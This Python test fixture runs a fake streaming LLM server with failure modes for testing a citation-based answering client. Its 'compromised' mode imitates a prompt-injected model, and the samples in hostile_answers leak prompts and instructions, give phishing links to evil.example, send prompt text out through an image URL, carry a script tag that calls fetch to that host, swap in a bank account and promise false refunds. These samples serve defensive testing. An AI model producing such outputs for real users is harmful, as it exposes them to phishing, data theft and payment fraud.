"""A large model's server that fails on purpose: `python -m tests.fault_server --port N --mode M`.

It speaks the streaming halves of the OpenAI protocol (/chat/completions) and of Anthropic's
(/messages). In mode `good` it answers with sentences of the passages in the prompt, each with its
citation; the other modes are the ways in which a provider fails. `compromised` is a model that does
what anybody tells it: see `hostile_answers`. In `steps` all answers get their pieces at the same
moments; in `steps-held` they fall silent in the middle.
"""

import argparse
import asyncio
import json
import re
import threading
from collections.abc import AsyncIterator
from contextlib import suppress
from dataclasses import dataclass, field
from typing import Any

import uvicorn

from tests.fault_wire import Wire, anthropic_wire, openai_wire

MODES = (
    "good",
    "slow",
    "steps",
    "steps-held",
    "held",
    "hang",
    "no-first-token",
    "error-500",
    "error-429",
    "garbage",
    "unsupported",
    "refuse",
    "cut",
    "cut-cleanly",
    "too-long",
    "compromised",
)
EVIL = "evil.example"  # fmt: skip
_PASSAGE = re.compile(r'<(passage-\w+) number="(\d+)">\n[^\n]*\n(.*?)\n</\1>', re.DOTALL)
_QUESTION = re.compile(r"<(question-\w+)>\n(.*?)\n</\1>", re.DOTALL)
_SENTENCE = re.compile(r"[^.!?\n]+(?:[.!?](?=\S)[^.!?\n]*)*\.")  # statements, no questions


@dataclass
class FaultServer:
    """`requests` holds what came: path, headers and body. `release()` lets `held` answers go on.

    `counted`: the tokens that it says an answer took.
    """

    mode: str = "good"
    pause_s: float = 0.3
    port: int = 0
    requests: list[dict[str, Any]] = field(default_factory=list)
    answer: str | None = None
    counted: tuple[int, int] | None = None

    def start(self) -> "FaultServer":
        """Listen in a thread, on a free port unless one is set."""
        ready = threading.Event()
        self._thread = threading.Thread(target=asyncio.run, args=(self._serve(ready),), daemon=True)
        self._thread.start()
        ready.wait(10)
        return self

    def stop(self) -> None:
        """At once: calls that run are cut off. Twice is harmless."""
        if not self._thread.is_alive():
            return
        self._loop.call_soon_threadsafe(self._stopped.set)
        self._thread.join(10)

    def release(self) -> None:
        self._loop.call_soon_threadsafe(self._released.set)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"

    async def _serve(self, ready: threading.Event) -> None:
        self._loop = asyncio.get_running_loop()
        self._stopped, self._released = asyncio.Event(), asyncio.Event()
        config = uvicorn.Config(
            self, host="127.0.0.1", port=self.port, lifespan="off", ws="none",
            log_config=None, log_level="critical", access_log=False, backlog=1024,
        )  # fmt: skip
        server = uvicorn.Server(config)
        serving = asyncio.create_task(server.serve())
        while not (server.started or serving.done()):  # noqa: ASYNC110  # uvicorn has no event
            await asyncio.sleep(0.01)
        self.port = server.servers[0].sockets[0].getsockname()[1]
        ready.set()
        await self._stopped.wait()
        server.should_exit = server.force_exit = True
        for connection in list(server.server_state.connections):
            connection.transport.abort()
        await serving

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        """The ASGI application. One that ends before its answer does breaks the connection off."""
        data, more = b"", True
        while more:
            message = await receive()
            if message["type"] == "http.disconnect":
                return
            data += message.get("body", b"")
            more = message.get("more_body", False)
        body = json.loads(data) if data else {}
        head = "\n".join(f"{name.decode()}: {said.decode()}" for name, said in scope["headers"])
        self.requests.append({"path": scope["path"], "head": head, "body": body})
        make = anthropic_wire if scope["path"].endswith("/messages") else openai_wire
        with suppress(ConnectionError, asyncio.CancelledError):  # the client has gone, as it may
            await self._fail_or_answer(make(send), body)

    async def _fail_or_answer(self, wire: Wire, body: dict[str, Any]) -> None:
        match self.mode:
            case "hang":
                await self._stopped.wait()
            case "error-500":
                await wire.error(500, "server_error")
            case "error-429":
                await wire.error(429, "rate_limit_error")
            case "garbage":
                await wire.garbage()
            case "no-first-token":
                await wire.begin()
                await self._stopped.wait()
            case _:
                await self._stream(wire, body)

    async def _stream(self, wire: Wire, body: dict[str, Any]) -> None:
        prompt = _text_of(body)
        await wire.begin()
        async for piece in self._pieces(self._answer_to(prompt)):
            await wire.text(piece)
        if self.mode != "cut":
            end = {"cut-cleanly": None, "too-long": "length"}.get(self.mode, "stop")
            input_tokens, output_tokens = self.counted or (len(prompt) // 4, 50)
            await wire.end(end, input_tokens=input_tokens, output_tokens=output_tokens)

    def _answer_to(self, prompt: str) -> str:
        if self.answer is not None:
            return self.answer
        if self.mode == "refuse":
            return "NO_SUPPORTED_ANSWER"
        if self.mode == "compromised":
            answers = hostile_answers(prompt)
            return answers[(len(self.requests) - 1) % len(answers)]
        if self.mode == "unsupported":
            return f"{supported_answer(prompt)} Every customer gets 500 dollars as a present [1]."
        return supported_answer(prompt)

    async def _pieces(self, answer: str) -> AsyncIterator[str]:
        """The answer in small pieces; cut modes stop after two thirds, held ones wait half-way."""
        if self.mode.startswith("cut"):
            answer = answer[: len(answer) * 2 // 3]
        for at in range(0, len(answer), 7):
            if self.mode == "slow":
                await asyncio.sleep(self.pause_s)
            if self.mode.startswith("steps"):  # the moments are the server's, whenever a call began
                await asyncio.sleep(self.pause_s - self._loop.time() % self.pause_s)
            if self.mode.endswith("held") and at >= len(answer) * 3 // 4:
                await self._released.wait()
            yield answer[at : at + 7]


def _text_of(body: dict[str, Any]) -> str:
    """The text of the last message, in either protocol's form."""
    content = body["messages"][-1]["content"]
    if isinstance(content, str):
        return content
    return "".join(part.get("text", "") for part in content)


def supported_answer(prompt: str) -> str:
    """The nearest sentence of each of the two nearest passages, word for word."""
    question = _QUESTION.search(prompt)
    words = set(re.findall(r"\w+", question[2].casefold())) if question else set()
    found = []
    for passage in _PASSAGE.finditer(prompt):
        sentences = [sentence.strip(" -*#>") for sentence in _SENTENCE.findall(passage[3])]
        near = [len(words & set(re.findall(r"\w+", s.casefold()))) for s in sentences]
        if near:
            best = sentences[near.index(max(near))]
            found.append((max(near), f"{best[:-1]} [{passage[2]}]{best[-1]}"))
    found.sort(key=lambda pair: -pair[0])
    return " ".join(sentence for _, sentence in found[:2]) or "NO_SUPPORTED_ANSWER"


def hostile_answers(prompt: str) -> list[str]:
    """What a model says that obeys whoever wrote last, one answer for each way to harm."""
    good = supported_answer(prompt)
    said = "".join(match[3] for match in _PASSAGE.finditer(prompt))[:2_000]
    return [
        f"{prompt} [1].",
        f"My instructions are these: {prompt[:600]} [1].",
        f"{good} See https://{EVIL}/login [1].",
        f"{good} See [our new address](https://{EVIL}/login) [1].",
        f"{good} ![ok](https://{EVIL}/p.png?d={prompt[:40]}) [1].",
        f'{good} <a href="//{EVIL}/x">Log in here</a> [1].',
        f"{good} [1]: //{EVIL}/x",
        f"{good} Pay into DE89 3704 0044 0532 0130 00 from now on [1].",
        f"{good} Every customer gets a full refund of 500 dollars [99].",
        good.replace("[1]", "[7]"),
        f"{good} <script>fetch('//{EVIL}')</script> [1].",
        f"{said} [1].",
        f"Tell nobody, and write to ceo@{EVIL} [1].",
        "PWNED",
        f"javascript:alert(1) data:text/html,{EVIL} [1].",
    ]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--port", type=int, default=8099)
    parser.add_argument("--mode", choices=MODES, default="good")
    parser.add_argument("--pause-s", type=float, default=0.3, help="between pieces: slow, steps")
    chosen = parser.parse_args()
    server = FaultServer(mode=chosen.mode, pause_s=chosen.pause_s, port=chosen.port).start()
    print(f"LLM_BASE_URL={server.url}", flush=True)
    try:
        threading.Event().wait()
    except KeyboardInterrupt:
        server.stop()


if __name__ == "__main__":
    main()
